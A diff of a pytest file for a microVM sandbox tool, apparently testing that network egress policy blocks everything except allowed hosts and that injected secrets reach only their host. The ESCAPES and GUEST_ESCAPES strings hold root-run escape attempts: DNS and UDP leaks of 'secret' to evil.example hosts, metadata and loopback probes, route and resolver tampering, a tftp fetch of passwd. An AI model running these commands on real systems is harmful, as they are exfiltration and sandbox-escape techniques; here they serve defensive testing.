@@ -1,308 +1,178 @@
-"""What gets out of a microVM: what its policy names, and nothing else. In a world of the tests' own."""
+"""What an emulated microVM can reach: what its policy names, and nothing else. In the tests' own world."""
 
 from __future__ import annotations
 
+import base64
 import json
-import subprocess
-import sys
-from collections.abc import Callable, Sequence
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
-from tests.support import named_world as world
-from tests.support.bottle import Bottle, Ended, end
-from tests.support.engines import CHECKOUT, Docker
-from tests.support.escapes import client_context
-from tests.support.named_world import ALLOWED, EMULATOR, LAN, METADATA, REFUSED, RESOLVER, WILD
-from tests.support.world import furnish
+from tests.support.bottle import Bottle, Ended
+from tests.support.engines import Docker
+from tests.support.escapes import ESCAPES, client_context
+from tests.support.world import API, OTHER, WILD, World, world
 
-from bot_bottle.network.probes import BUSYBOX
+pytestmark = pytest.mark.timeout(600)
 
-BOOT = 500
-pytestmark = pytest.mark.timeout(900)
-
-BB = " ".join(BUSYBOX)
-# a question over TCP: its length, its head, "secret.tcp" and its type and class
-QUESTION = r"\0\034bo\1\0\0\1\0\0\0\0\0\0\6secret\3tcp\0\0\1\0\1"
-# the kit's programs under their names: the shell does not find them, since the kit has no links
-TOOLS = f"""
-for each in nc ping ip wget head wc; do eval "$each() {{ {BB} $each \\"\\$@\\"; }}"; done
-get() {{ printf 'GET / HTTP/1.0\\r\\nHost: evil.example.net\\r\\n\\r\\n' | nc -w 3 "$@"; }}
-ask() {{ {BB} timeout 5 {BB} nslookup "$@"; }}
-fetched() {{ [ "$(wget -q -T 20 -O - "http://$1/")" != ok ] || echo "$1 ok"; }}
-"""
-# Tried in this order, by root. What comes of it is not looked at here: the world's log says what got out.
-ESCAPES = f"""
-get evil.example.net 80
-get {REFUSED} 80
-get {REFUSED} 443
-get sub.api.example.org 80
-get wild.example.org 80
-get ::ffff:{REFUSED} 80
-get 64:ff9b::{REFUSED} 80
-get {METADATA} 80
-get {LAN} 80
-get meta.wild.example.org 80
-get 127.0.0.1 80
-get loop.wild.example.org 80
-get 0.0.0.0 80
-get 2130706433 80
-get 0x7f.1 80
-get {EMULATOR} 80
-get 198.18.1.2 80
-get 10.0.2.2 80
-get emulator.wild.example.org 80
-get 100.96.0.1 80
-get 100.96.0.1 443
-get lan.wild.example.org 80
-get -s 127.0.0.1 {REFUSED} 80
-ask secret.evil.example.net
-ask secret.evil.example.net {RESOLVER}
-ask -type=txt secret.evil.example.net {RESOLVER}
-ask secret.evil.example.net {REFUSED}
-printf '{QUESTION}' | nc -w 3 {RESOLVER} 53
-for at in "{REFUSED} 443" "{RESOLVER} 443" "255.255.255.255 443" "224.0.0.251 5353"; do
-  echo secret | {BB} timeout 2 {BB} nc -u $at
-done
-ping -c 1 -W 2 -w 3 {REFUSED}
-echo "{REFUSED} api.example.org" >> /etc/hosts; get api.example.org 80
-echo "nameserver {REFUSED}" > /etc/resolv.conf; get evil.example.net 80; ask secret.evil.example.net
-ip addr add 10.77.0.9/24 dev eth0; get -s 10.77.0.9 {LAN} 80
-ip route add {REFUSED}/32 dev eth0; get {REFUSED} 80
-ip route add {LAN}/32 dev lo; get {LAN} 80
-"""
-EXPECTED_OUT = "escapes tried"
-# Sizes in bytes are put in for @. The frame is a WebSocket's: a text, "hello", masked with nothing.
-WORKS = r"""
-cd /tmp
+PROXY = "10.0.2.100"
+# what root in a guest of QEMU may try besides
+GUEST_ESCAPES = (
+    f"ip route add default via 10.0.2.2; curl -sS -m 5 --noproxy '*' http://{OTHER}/",
+    f"ip route add {OTHER}/32 dev eth0; curl -sS -m 5 --noproxy '*' http://{OTHER}/",
+    f"ip addr add 10.0.2.77/24 dev eth0; curl -sS -m 5 --noproxy '*' --interface 10.0.2.77 http://{OTHER}/",
+    "curl -sS -m 5 --noproxy '*' http://10.0.2.2/; curl -sS -m 5 --noproxy '*' http://10.0.2.2:443/",
+    "nslookup -timeout=2 leak.evil.example 10.0.2.3; echo leak | nc -w 2 10.0.2.3 53",
+    "udhcpc -i eth0 -n -q -t 1 -s /bin/true; tftp -g -r passwd -l - 10.0.2.2",
+    "for port in 22 80 139 443 445; do nc -w 2 10.0.2.4 $port; nc -w 2 10.0.2.100 $port; done </dev/null",
+    f"for each in 10.0.2.2 {OTHER} 255.255.255.255; do"
+    " echo leak | nc -u -w 2 $each 443; ping -c 1 -W 1 $each; done",
+)
+WORKS = """
+set -e
 curl -sS http://api.example.org/plain
 curl -sS https://api.example.org/secure
-curl -sS https://API.example.org./secure
-git -c http.sslCAInfo=/ca.pem clone -q https://api.example.org/repo.git repo && cat repo/file
-curl -sS http://api.example.org/size/@ | wc -c
-head -c @ /dev/zero | curl -sS -T - http://api.example.org/sink; echo
-{ printf 'GET /ws HTTP/1.1\r\nHost: api.example.org\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
-  printf 'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
-  sleep 2; printf '\201\205\0\0\0\0hello'; sleep 4; } | nc api.example.org 80 | grep -ao 'echo hello'
+git -c http.sslCAInfo=/ca.pem clone -q https://api.example.org/repo.git /tmp/repo && cat /tmp/repo/file
+curl -sS https://api.example.org/size/20000000 | wc -c
+head -c 20000000 /dev/zero | curl -sS -T - https://api.example.org/sink; echo
+"""
+CREDENTIAL = """
+echo "holds $KEY"
+curl -sS -m 60 -H "Authorization: Bearer $KEY" https://api.example.org/headers
+curl -sS -m 60 -u "me:$KEY" https://api.example.org/headers
+curl -sS -m 60 -H "X-Key: $KEY" https://other.example.org/headers
+curl -sS -m 60 -H "X-Key: $KEY" http://api.example.org/headers
+grep -s a-canary-value /proc/[0-9]*/environ /.bottle/ca.pem | head -c 100
 """
 
 Run = Callable[..., Ended]
 
 
-@pytest.fixture
-def log(tmp_path: Path) -> Path:
-    return tmp_path / "world"
+@pytest.fixture(scope="module")
+def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    """The world that bottles could get out into."""
+    with world(tmp_path_factory.mktemp("world")) as made:
+        yield made
 
 
 @pytest.fixture(scope="module")
-def archive(docker: Docker, image: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    path = tmp_path_factory.mktemp("archive") / "image.tar"
-    docker.docker("save", "--output", str(path), image)
-    return path
-
-
-@pytest.fixture(scope="module")
-def served(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """What is served at the allowed address."""
-    folder = tmp_path_factory.mktemp("served")
-    furnish(folder)
-    return folder
-
-
-@pytest.fixture(scope="module")
-def client(docker: Docker, served: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """An archive of an image with curl and git, which trust the allowed address."""
+def client(docker: Docker, outside: World, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An archive of an image with the programs that are used to get out."""
     folder = tmp_path_factory.mktemp("client")
-    built = docker.build(client_context(folder, served / "cert.pem"))
-    docker.docker("save", "--output", str(folder / "client.tar"), built)
+    image = docker.build(client_context(folder, outside.folder / "cert.pem"))
+    docker.docker("save", "--output", str(folder / "client.tar"), image)
     return folder / "client.tar"
 
 
 @pytest.fixture
-def run(archive: Path, served: Path, shared_cache: Path, tmp_path: Path, log: Path) -> Run:
-    """Run a command in a bottle in a world of its own; `change` is what its smolvm ignores."""
-    bottle = Bottle(shared_cache, {"BOT_BOTTLE_STATE_DIR": str(tmp_path / "state")})
+def there(shared_cache: Path, outside: World, tmp_path: Path) -> Iterator[Bottle]:
+    """Run `bottle` in that world. Whatever a test does, no process stays."""
+    outside.forget()
+    changes = {
+        "BOT_BOTTLE_STATE_DIR": str(tmp_path / "state"),
+        "SSL_CERT_FILE": str(outside.folder / "cert.pem"),
+    }
+    made = Bottle(shared_cache, changes, prefix=outside.prefix)
+    yield made
+    assert made.leftovers == []
 
-    def run(script: str, *options: str, change: dict[str, Sequence[str]] | None = None) -> Ended:
-        program = [sys.executable, "-m", "tests.support.dropping", json.dumps(change or {})]
-        own = ("run", "-m", "512m", "-u", "0", "--name", "walled", "--archive", str(archive), *options)
-        argv = [*world.prefix(log, served), *program, *own, "--", *BUSYBOX, "sh", "-c", TOOLS + script]
-        child = subprocess.Popen(
-            argv,
-            env=bottle.env(),
-            cwd=CHECKOUT,
-            stdin=subprocess.DEVNULL,
-            stdout=subprocess.PIPE,
-            stderr=subprocess.PIPE,
-            text=True,
-        )
-        ended = end(child, BOOT)
-        assert bottle.processes() == []
-        return ended
+
+@pytest.fixture
+def run(there: Bottle, client: Path) -> Run:
+    def run(script: str, *options: str) -> Ended:
+        own = ("run", "-q", "--accel=direct", "-m", "1g", "--name=walls", "-u", "0", "-w", "/tmp")
+        return there(*own, *options, "--archive", client, "--", "sh", "-c", script, timeout=300)
 
     return run
 
 
-@pytest.fixture
-def receipt(tmp_path: Path) -> Callable[[], dict[str, Any]]:
-    def read() -> dict[str, Any]:
-        [path] = (tmp_path / "state" / "receipts").glob("*.json")
-        found: dict[str, Any] = json.loads(path.read_text())
-        return found
-
-    return read
+def proof(there: Bottle) -> dict[str, Any]:
+    found: dict[str, Any] = json.loads(there("show", "--json", "walls").out)["proof"]
+    return found
 
 
-def outcomes(receipt: dict[str, Any]) -> dict[str, str]:
-    return {name: found["outcome"] for name, found in receipt["proof"].items()}
-
-
-def tcp(log: Path) -> set[tuple[str, int]]:
-    return {(address, port) for kind, address, port, _ in by_kind(log, "tcp") if kind == "tcp"}
-
-
-def by_kind(log: Path, kind: str) -> list[list[Any]]:
-    return [each for each in world.seen(log) if each[0] == kind]
-
-
-def names(log: Path) -> set[str]:
-    return {name for _, name in by_kind(log, "name")}
-
-
-def test_with_egress_off_nothing_gets_out(run: Run, log: Path, receipt: Callable[[], dict[str, Any]]) -> None:
-    ended = run(f"{{ {ESCAPES} }} >/dev/null 2>&1; wget -q -T 5 -O - http://{ALLOWED}/; echo {EXPECTED_OUT}")
-    assert (ended.code, ended.out) == (0, f"{EXPECTED_OUT}\n"), ended
-    assert world.seen(log) == []
-    found = outcomes(receipt())
-    assert len(found) == 11
-    assert set(found.values()) <= {"unreachable", "refused"}
-
-
-@pytest.mark.slow
-def test_with_a_published_port_nothing_gets_out(
-    run: Run, log: Path, receipt: Callable[[], dict[str, Any]]
-) -> None:
-    script = f"{{ {ESCAPES} }} >/dev/null 2>&1; wget -q -T 5 -O - http://{ALLOWED}/; echo {EXPECTED_OUT}"
-    ended = run(script, "-p", "3000")
-    assert (ended.code, ended.out) == (0, f"{EXPECTED_OUT}\n"), ended
-    assert world.seen(log) == []
-    found = outcomes(receipt())
-    assert len(found) == 12
-    assert (found["ipv4"], found["resolver"]) == ("refused", "refused")
-
-
-def test_a_published_port_and_an_allowed_host_go_together(
-    run: Run, log: Path, receipt: Callable[[], dict[str, Any]]
-) -> None:
-    host = "api.example.org"
-    script = f"""
-nc -ll -p 3000 -e cat &
-wget -q -T 60 -O - http://{host}/call/8080
-{{ {ESCAPES} }} >/dev/null 2>&1; kill $!; echo {EXPECTED_OUT}
-"""
-    ended = run(script, "-p", "8080:3000", "--allow", host)
-    assert (ended.code, ended.out.splitlines()) == (0, ["hello", EXPECTED_OUT]), ended
-    assert tcp(log) == {(ALLOWED, 80)}
-    assert by_kind(log, "udp") == []
-    assert names(log) == {host}
-    found = outcomes(receipt())
-    assert (found["allowed-host"], found["ipv4"], found["resolver"]) == ("open", "refused", "refused")
-
-
-# what is emulated moves some 4 MB a second in and 2 out
-@pytest.mark.parametrize("size", [20_000_000, pytest.param(200_000_000, marks=pytest.mark.slow)])
-def test_with_one_host_allowed_all_of_it_works_and_nothing_else_does(
-    run: Run, client: Path, log: Path, receipt: Callable[[], dict[str, Any]], tmp_path: Path, size: int
-) -> None:
-    host = "api.example.org"
-    works = WORKS.replace("@", str(size))
-    options = ("-m", "1g", "--archive", str(client), "--allow", host)
-    ended = run(f"{works}\n{{ {ESCAPES} }} >/dev/null 2>&1; echo {EXPECTED_OUT}", *options)
-    plain, secure = (f"reached {ALLOWED}:{port}" for port in (80, 443))
-    told = [plain, secure, secure, "from far away", str(size), str(size), "echo hello", EXPECTED_OUT]
-    assert (ended.code, ended.out.splitlines()) == (0, told), ended
-    assert tcp(log) == {(ALLOWED, 80), (ALLOWED, 443)}
-    assert by_kind(log, "udp") == []
-    assert names(log) == {host}
-    found = outcomes(receipt())
-    assert (found["control"], found["allowed-host"], found["resolver"]) == ("open", "open", "refused")
-    [path] = (tmp_path / "state" / "receipts").glob("*.egress")
-    refused = [json.loads(line) for line in path.read_text().splitlines()]
-    assert {"evil.example.net", "secret.evil.example.net", REFUSED, METADATA, LAN} <= {
-        each["host"] for each in refused
-    }
-    assert {each["port"] for each in refused if each["host"] == REFUSED} >= {80, 443}
-
-
-def test_a_pattern_and_an_address_open_what_they_name(run: Run, log: Path) -> None:
-    script = f"""
-for name in a.wild.example.org b.a.wild.example.org {LAN}; do fetched $name; done
-{{ {ESCAPES} }} >/dev/null 2>&1; echo {EXPECTED_OUT}
-"""
-    # that of the emulator too: smolvm lets it through then, and the emulated host does not
-    ended = run(script, "--allow", "*.wild.example.org", "--allow", LAN, "--allow", EMULATOR)
-    told = [f"{name} ok" for name in ("a.wild.example.org", "b.a.wild.example.org", LAN)]
-    assert (ended.code, ended.out.splitlines()) == (0, [*told, EXPECTED_OUT]), ended
-    assert tcp(log) <= {(WILD, 80), (LAN, 80)}
-    assert by_kind(log, "udp") == []
-    assert {name for name in names(log) if not name.endswith(".wild.example.org")} == set()
-
-
-OPTIONS_OF_LISTS = ("--allow-host-pattern", "--allow-cidr")
+def test_with_one_host_allowed_all_of_it_works(run: Run, there: Bottle, outside: World) -> None:
+    done = run(WORKS, "--allow", "api.example.org")
+    assert done.code == 0, done
+    plain, secure = (f"reached {API}:{port}" for port in (80, 443))
+    assert done.out.splitlines() == [plain, secure, "from far away", "20000000", "20000000"]
+    assert {each["address"] for each in outside.seen()} == {API}
+    found = proof(there)
+    assert all(each["ok"] for each in found.values())
+    assert found["allowed-host"]["outcome"] == "open"
+    assert {found[each]["outcome"] for each in ("refused-host", "host-loopback")} == {"refused"}
+    assert found["qemu.user"]["outcome"] == "of its own"
+    assert found["qemu.namespaces"]["outcome"] == "mount ipc uts network"
 
 
 @pytest.mark.parametrize(
-    ("options", "change", "bad"),
+    ("options", "reachable"),
     [
-        pytest.param((), {"add": ("--net",)}, "routes", id="a-network-nobody-asked-for"),
-        pytest.param(("--allow", ALLOWED), {"drop": ("--deny-cidr",)}, "denied", id="no-denials"),
+        pytest.param((), set(), id="nothing"),
+        pytest.param(("-p", "3000"), set(), id="a-port"),
         pytest.param(
-            ("--allow", ALLOWED),
-            {"drop": OPTIONS_OF_LISTS},
-            "ipv4",
-            id="no-list",
-            marks=pytest.mark.slow,
+            [f"--allow={name}.example.org" for name in ("api", "rebound", "clouded", "looped")],
+            {API},
+            id="hosts",
         ),
-        pytest.param(
-            ("--allow", ALLOWED),
-            {"drop": ("--allow-host-pattern",)},
-            "resolver",
-            id="no-filter-of-names",
-            marks=pytest.mark.slow,
-        ),
-        pytest.param(
-            ("-p", "3000"),
-            {"add": ("--net",)},
-            "ipv4",
-            id="a-port-and-a-network-nobody-asked-for",
-            marks=pytest.mark.slow,
-        ),
-        pytest.param(
-            (),
-            {"add": ("--net", "--net-backend", "virtio-net")},
-            "ipv4",
-            id="another-network",
-            marks=pytest.mark.slow,
-        ),
-        pytest.param(
-            ("--allow", "api.example.org"),
-            {"drop": (*OPTIONS_OF_LISTS, "--deny-cidr")},
-            "control",
-            id="no-network",
-            marks=pytest.mark.slow,
-        ),
+        pytest.param(("--allow=*.wild.example.net:443", "-p", "3000"), {WILD}, id="a-wildcard-and-a-port"),
     ],
 )
-def test_a_smolvm_that_ignores_an_option_is_caught(
-    run: Run,
-    receipt: Callable[[], dict[str, Any]],
-    options: tuple[str, ...],
-    change: dict[str, Sequence[str]],
-    bad: str,
+def test_no_escape_reaches_what_is_not_allowed(
+    run: Run, outside: World, options: tuple[str, ...], reachable: set[str]
 ) -> None:
-    ended = run("echo started", *options, change=change)
-    ended.failed(119, "network isolation is not in force", bad)
-    told = receipt()
-    assert not told["proof"][bad]["ok"]
-    assert (told["exit_status"], told["place"]) == (119, "nested")
+    attempts = [attempt.replace("127.0.0.1 3128", f"{PROXY} 3128") for _, attempt in ESCAPES]
+    attempts = [attempt.replace("127.0.0.1:3128", f"{PROXY}:3128") for attempt in attempts]
+    at_once = [f"( {each}\n) </dev/null >/tmp/{number} 2>&1 &" for number, each in enumerate(attempts)]
+    # these change the guest's network for the others, so they come last
+    after = [f"( {each}\n) </dev/null >/tmp/9{number} 2>&1" for number, each in enumerate(GUEST_ESCAPES)]
+    script = "\n".join(
+        [*at_once, "wait", *after, 'for each in /tmp/[0-9]*; do head -c 2000 "$each"; echo "== tried"; done']
+    )
+    done = run(script, *options)
+    assert done.out.count("== tried") == len(attempts) + len(GUEST_ESCAPES), done
+    assert {each["address"] for each in outside.seen()} <= reachable, outside.seen()
+    got_through = [line for line in done.out.splitlines() if line.startswith("reached ")]
+    assert {line.split()[1].rpartition(":")[0] for line in got_through} <= reachable, done.out
+    assert not [each for each in outside.seen() if "other" in str(each.get("host"))]
+
+
+def test_a_secret_for_a_host_reaches_that_host_alone_and_not_the_bottle(
+    run: Run, there: Bottle, outside: World, tmp_path: Path
+) -> None:
+    value = "a-canary-value-of-the-walls"
+    (tmp_path / "key").write_text(f"{value}\n")
+    options = ("--allow=api.example.org", "--allow=other.example.org")
+    done = run(CREDENTIAL, *options, f"--secret=id=KEY,src={tmp_path}/key,host=api.example.org")
+    assert done.out.startswith("holds BOTTLE_PLACEHOLDER_"), done
+    assert "a-canary" not in done.out + done.err
+    placeholder = done.out.split()[1]
+    asked = [(each["address"], each["headers"]) for each in outside.seen() if "headers" in each]
+    basic = base64.b64encode(f"me:{value}".encode()).decode()
+    assert [(address, headers.get("Authorization"), headers.get("X-Key")) for address, headers in asked] == [
+        (API, f"Bearer {value}", None),
+        (API, f"Basic {basic}", None),
+        (OTHER, None, placeholder),
+        (API, None, placeholder),
+    ]
+    assert value not in there("show", "--json", "walls").out
+
+
+def test_a_running_bottle_is_checked_and_allowed_another_host(
+    there: Bottle, client: Path, outside: World
+) -> None:
+    script = "until curl -sSf http://other.example.org/; do sleep 0.5; done"
+    own = ("run", "-q", "-d", "--accel=direct", "-m", "1g", "--name=walls", "--allow=api.example.org")
+    assert there(*own, "--archive", client, "--", "sh", "-c", script).code == 0
+    checked = json.loads(there("check", "--json", "walls").out)
+    assert all(each["ok"] for each in checked.values())
+    assert {each["address"] for each in outside.seen()} <= {API}
+    allowed = there("allow", "walls", "other.example.org")
+    assert allowed.out.split() == ["api.example.org", "other.example.org"], allowed
+    assert "reached" in there("logs", "-f", "walls").out
+    there("rm", "walls")
+
+
+def test_an_open_network_is_refused(run: Run) -> None:
+    run("echo started", "--network", "open").failed(101, "--network open", "--accel nested")
